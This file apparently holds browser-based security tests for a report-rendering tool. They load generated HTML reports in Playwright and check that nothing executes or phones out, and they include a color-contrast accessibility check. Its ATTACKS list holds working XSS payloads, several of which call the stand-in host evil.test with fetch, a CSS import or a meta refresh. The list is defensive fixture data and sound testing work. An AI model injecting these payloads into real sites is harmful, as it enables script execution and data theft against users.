"""Reports in a real browser, watched: what they should not do, and runs that say nothing but attacks."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from msgspec.structs import replace
from playwright.sync_api import BrowserContext, Page, Request, expect

from replaykit.bundle.reader import open_bundle
from replaykit.grading.engine import build_report, grade_many
from replaykit.grading.judges.tape.tape import append_reply
from replaykit.grading.model_request import ImagePart, ModelReply, ModelRequest, TextPart
from replaykit.grading.verdict import Evidence, Judgement, JudgeOutcome, Report, Value
from replaykit.testing import Builder, trajectory
from replaykit.trajectory.action import Element, Fill
from replaykit.trajectory.exchange import Console, Download

RECORDINGS = Path(__file__).parents[2] / "recordings" / "conformance"

ATTACKS = (
    "<script>window.hit=1;alert(1)</script>",
    "</script><script>window.hit=2;alert(2)</script>",
    "<!--<script>window.hit=3;alert(3)</script>-->",
    "<img src=x onerror=\"window.hit=4;alert(4);fetch('http://evil.test/4')\">",
    "\"><svg onload='window.hit=5;alert(5)'>",
    "javascript:window.hit=6;alert(6)",
    "'-alert(7)-'",
    "{{title}}${alert(8)}`;alert(8);//",
    "</style><style>@import 'http://evil.test/9';</style>",
    "<iframe srcdoc='<script>parent.hit=10;alert(10)</script>'></iframe>",
    "<base href='http://evil.test/'><a href=//evil.test/11 ping=http://evil.test/11>x</a>",
    "<form action='http://evil.test/12'><button formaction='javascript:alert(12)' autofocus onfocus=alert(12)>x</form>",
    "data:text/html,<script>alert(13)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(14)&gt;'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/15'>",
    "\u202eevil\u2066\u0000\u001b[31m",
)
"""Words that want to be more than words."""

ALL = " ".join(ATTACKS)

# Texts whose contrast with what is behind them is under 4.5 (WCAG 2.2, 1.4.3).
CONTRAST = """() => {
  const canvas = new OffscreenCanvas(1, 1).getContext('2d', { willReadFrequently: true });
  const over = (colours) => {
    canvas.clearRect(0, 0, 1, 1);
    for (const colour of colours) { canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); }
    return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
  };
  const light = (rgb) => {
    const [r, g, b] = rgb.map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const low = [];
  for (const node of document.querySelectorAll('#app *')) {
    const own = [...node.childNodes].some((kid) => kid.nodeType === 3 && kid.data.trim());
    if (!own || !node.checkVisibility({ opacityProperty: true, visibilityProperty: true })) continue;
    const behind = [];
    for (let up = node; up; up = up.parentElement) behind.unshift(getComputedStyle(up).backgroundColor);
    const ground = over(['white', ...behind]);
    const text = over([`rgb(${ground})`, getComputedStyle(node).color]);
    const [a, b] = [light(ground), light(text)].sort((x, y) => y - x);
    if ((a + 0.05) / (b + 0.05) < 4.5) low.push(`${node.className || node.tagName}: ${node.textContent.slice(0, 30)}`);
  }
  return low;
}"""


def readable_anywhere(page: Page) -> None:
    """Raise AssertionError unless a page reads well in light and dark, and fits a phone, which it then is."""
    for _ in range(2):
        assert page.evaluate(CONTRAST) == []
        page.keyboard.press("t")
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert page.locator("main").evaluate("main => main.scrollWidth") <= 360


class Watched:
    """A page with a report in it, and everything that it should not do."""

    def __init__(self, context: BrowserContext, file: Path, address: str = "") -> None:
        self.page: Page = context.new_page()
        self.file = file
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.on("console", lambda said: self.complaints.append(said.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.open(address)

    def open(self, address: str = "") -> None:
        self.page.goto("about:blank")
        self.page.goto(f"{self.file.as_uri()}{address}")
        expect(self.page.locator("main")).to_be_visible()

    def is_inert(self) -> None:
        """Nothing ran, nothing was sent, nothing was even refused."""
        assert self.dialogs == []
        assert self.requests == []
        assert self.complaints == []
        for frame in self.page.frames:
            if frame is self.page.main_frame:
                assert frame.evaluate("window.hit") is None

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.file.as_uri(), "blob:", "about:")):
            self.requests.append(request.url)


def hostile_run() -> Builder:
    """A run that says nothing but attacks, everywhere where a run says anything."""
    task = {
        "id": ALL,
        "intent": ALL,
        "start_urls": [ALL],
        "checks": [{"type": "string_match", "must_include": [ALL]}],
        "policies": [
            {
                "id": ALL,
                "dimension": "user_consent",
                "rule": {"type": "url_boundary", "deny": ["/"]},
                "description": ALL,
            }
        ],
        "metadata": {ALL: ALL},
    }
    page = "".join(f"<p>{said}</p>" for said in ATTACKS) + f"<title>{ALL}</title><input value='{ATTACKS[6]}'>"
    run = trajectory(task, sites={"shop": ("http://shop.test", ALL)}, run=ALL)
    run.goto(f"http://shop.test/{ALL}", page, thought=ALL, raw={ALL: [ALL]}, log=(ALL,)).screenshot()
    run.click(
        ALL, page, name=ALL, text=ALL, value=ALL, role=ALL, attributes={ALL: ALL}, box=(0, 0, 9, 9)
    ).screenshot()
    run.step(Fill(element=Element(css=ALL), value=ALL), error=ALL, thought=ALL).select("#y", ALL)
    run.request(
        "GET", f"http://shop.test/{ALL}", mime=ALL, status_text=ALL, error=ALL, request_headers=((ALL, ALL),)
    )
    run.dialog(ALL, "confirm").visit(f"http://shop.test/{ALL}").say(ALL).say(ALL, "ask").reply(ALL, True)
    run.add(Console(level="error", text=ALL, source=ALL)).add(Download(url=ALL, suggested=ALL))
    run.gap("network", ALL).probe(ALL, page)
    return run.answer(ALL)


def judged(path: Path) -> Report:
    """A report whose judge received, and replied, nothing but attacks."""
    report = grade_many([path])
    with open_bundle(path) as bundle:
        digest, image = (
            bundle.digest,
            next(id for id in bundle.blob_ids if bundle.blob_type(id).startswith("image")),
        )
    request = ModelRequest(
        judge=ALL, stage=ALL, index=0, system=ALL, model=f"anthropic:{ALL}", max_tokens=256,
        content=(TextPart(text=ALL), ImagePart(sha256=image, media_type="image/png", width=2, height=2, step=0)),
    )  # fmt: skip
    reply = ModelReply(text=ALL, stop_reason=ALL, model=ALL, origin="synthetic")
    tape = path.with_name(path.name.removesuffix(".zst") + ".replies.jsonl")
    entry = append_reply(tape, request, reply, trajectory=digest)
    judgement = Judgement(
        judge=ALL, outcome=JudgeOutcome.FAILURE, reason=ALL, fingerprint=ALL, detail=ALL,
        stages=({"stage": ALL, "request_key": entry.key, "reply_text": ALL},),
        images={"sent": [{"step": 0, "digest": image, "role": ALL}]},
        grounding=({"span": ALL, "kind": ALL, "steps": [0]},),
    )  # fmt: skip
    evidence = Evidence(
        item=ALL, source=ALL, step=0, action=ALL, url=ALL, locator=ALL, excerpt=ALL, note=ALL,
        expected=Value(raw=ALL, normal=[ALL], type=ALL), found=Value(raw={ALL: ALL}),
    )  # fmt: skip
    verdict = report.verdicts[0]
    checks = tuple(
        replace(check, reason=ALL, notes=(ALL,), missing=(ALL,), evidence=(evidence,))
        for check in verdict.checks
    )
    return build_report([replace(verdict, checks=checks, judgements=(judgement,))], label=ALL)
